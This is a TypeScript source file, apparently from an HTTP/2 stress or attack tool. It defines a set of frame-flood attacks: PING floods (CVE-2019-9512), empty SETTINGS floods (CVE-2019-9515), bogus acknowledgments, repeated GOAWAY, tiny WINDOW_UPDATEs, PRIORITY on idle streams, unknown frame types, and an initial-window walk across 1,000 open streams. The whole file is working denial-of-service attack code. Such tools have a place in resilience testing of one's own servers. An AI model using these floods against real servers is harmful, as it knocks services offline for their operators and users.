/** Floods of frames that cost the sender nothing and belong to no request. */

import { requestBlock } from "../wire/field-block.ts";
import { emptyPayload, Flag, type FrameBatch, FrameType, Setting } from "../wire/frames.ts";
import { type Attack, repeat } from "./attack.ts";

const framesAPiece = 3000;
const ping = Buffer.alloc(8, 7);
const goaway = Buffer.alloc(8);
const priority = Buffer.from([0, 0, 0, 0, 15]);
const ignored = requestBlock("Ignore");
/** One SETTINGS frame that changes the initial window ten times. */
const walk = Array.from(
  { length: 10 },
  (_, at) => [Setting.INITIAL_WINDOW_SIZE, 60_000 + at] as const,
);
/** Streams that are open while the initial window is changed. */
const walkedStreams = 1000;

export const controlFloods: readonly Attack[] = [
  {
    name: "ping",
    sends: "PING",
    known: "CVE-2019-9512",
    create: () => repeat((batch) => batch.frame(FrameType.PING, 0, 0, ping), framesAPiece),
  },
  {
    name: "ping-ack",
    sends: "PING acknowledgments of nothing",
    create: () => repeat((batch) => batch.frame(FrameType.PING, Flag.ACK, 0, ping), framesAPiece),
  },
  {
    name: "settings",
    sends: "empty SETTINGS",
    known: "CVE-2019-9515",
    create: () => repeat((batch) => batch.settings(), framesAPiece),
  },
  {
    name: "settings-ack",
    sends: "SETTINGS acknowledgments of nothing",
    create: () => repeat((batch) => batch.frame(FrameType.SETTINGS, Flag.ACK, 0), framesAPiece),
  },
  {
    name: "settings-window-walk",
    sends: "SETTINGS_INITIAL_WINDOW_SIZE, up and down, with 1,000 streams open",
    create: (peer) => ({
      begin(batch) {
        for (let index = 0; index < walkedStreams; index++) {
          batch.headers(peer.openStream(), ignored, Flag.END_HEADERS);
        }
      },
      ...repeat((batch) => batch.settings(...walk), 300),
    }),
  },
  {
    name: "goaway",
    sends: "GOAWAY without an error, again and again",
    create: () => repeat((batch) => batch.frame(FrameType.GOAWAY, 0, 0, goaway), framesAPiece),
  },
  {
    name: "window-update",
    sends: "WINDOW_UPDATE of 1 on the connection and on an open stream",
    create: (peer) => {
      const streamId = peer.openStream();
      const updates = (batch: FrameBatch) => {
        batch.word(FrameType.WINDOW_UPDATE, 0, 1);
        batch.word(FrameType.WINDOW_UPDATE, streamId, 1);
      };
      return {
        begin: (batch) => batch.headers(streamId, ignored, Flag.END_HEADERS),
        ...repeat(updates, framesAPiece / 2),
      };
    },
  },
  {
    name: "priority",
    sends: "PRIORITY on idle streams",
    create: () =>
      repeat((batch) => batch.frame(FrameType.PRIORITY, 0, 1001, priority), framesAPiece),
  },
  {
    name: "unknown-frames",
    sends: "empty frames of a type that no RFC has",
    create: () => repeat((batch) => batch.frame(0xfa, 0, 0, emptyPayload), framesAPiece),
  },
];
